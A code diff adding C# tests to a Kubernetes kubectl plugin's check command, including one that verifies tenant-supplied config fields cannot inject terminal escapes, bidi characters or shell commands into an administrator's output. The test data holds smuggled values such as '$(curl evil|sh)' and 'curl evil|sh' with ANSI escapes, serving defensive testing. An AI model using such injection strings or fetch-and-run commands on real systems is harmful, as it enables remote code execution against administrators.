@@ -1,3 +1,4 @@
+using ArcOperator.Commands.Users;
 using ArcOperator.Testing;
 using ArcOperator.Tests.Hosting;
 using FluentAssertions;
@@ -62,6 +63,38 @@ internal sealed class CheckTests
         var (_, output, _) = await CheckAsync();
 
         output.Should().NotContain("templateReferencing").And.NotContain("instance ID").And.NotContain("may not create and patch workflowtaskresults").And.NotContain("feature gate").And.NotContain("the same namespaces");
+    }
+
+    [Test, Order(4)]
+    public async Task Texts_of_a_tenant_control_neither_the_terminal_nor_the_shell_of_an_administrator()
+    {
+        await Programs.RunAsync("kubectl", ["--kubeconfig", _plane.AdminKubeconfig, "apply", "-f", "-"], string.Join("\n---\n", [
+            "# kubectl reads a text that begins with a brace as JSON.",
+            Deployment("team-a", "workflow-controller", "registry.example/workflow-controller"),
+            """{ apiVersion: v1, kind: ConfigMap, metadata: { name: workflow-controller-configmap, namespace: team-a }, data: { instanceID: '"\e[2J x; curl evil|sh\u202E"' } }""",
+            """{ apiVersion: argoproj.io/v1alpha1, kind: WorkflowTemplate, metadata: { name: t, namespace: team-a }, spec: { serviceAccountName: "$(curl evil|sh)", entrypoint: a, templates: [{ name: a, suspend: {} }] } }""",
+        ]));
+        using var output = new StringWriter { NewLine = "\n" };
+
+        var exitCode = await KubectlPlugin.RunAsync(["check", "-n", "team-a", "--kubeconfig", _plane.AdminKubeconfig], output, TextWriter.Null, CancellationToken.None);
+
+        exitCode.Should().Be(3);
+        output.ToString().Should().Contain("has instance ID ' x; curl evil|sh\uFFFD'")
+            .And.Contain("         kubectl set env -n arc-system deployment/arc-operator 'ARC_ARGO__INSTANCEID= x; curl evil|sh\uFFFD'\n")
+            .And.Contain("ServiceAccount team-a/$(curl evil|sh) of workflow pods")
+            .And.NotContain("rolebinding").And.NotContain("\u001B").And.NotContain("\u202E");
+        (await CheckAsync()).Output.Should().NotContain("\u001B").And.NotContain("\u202E");
+    }
+
+    [Test, Order(5)]
+    public async Task The_help_names_the_exit_codes_of_the_program()
+    {
+        using var output = new StringWriter();
+
+        await KubectlPlugin.RunAsync(["check", "--help"], output, TextWriter.Null, CancellationToken.None);
+
+        output.ToString().ReplaceLineEndings(" ").Should().MatchRegex("64:\\s+wrong\\s+usage,\\s+69:\\s+the\\s+cluster\\s+cannot\\s+be\\s+read");
+        (await Programs.RunAsync(OperatorCluster.Program, ["check", "--help"])).Should().MatchRegex("2:\\s+wrong\\s+usage,\\s+1:\\s+the\\s+cluster\\s+cannot\\s+be\\s+read");
     }
 
     private Task<(int ExitCode, string Output, string Errors)> CheckAsync() => Programs.RunToEndAsync(OperatorCluster.Program, ["check", "--kubeconfig", _plane.AdminKubeconfig]);
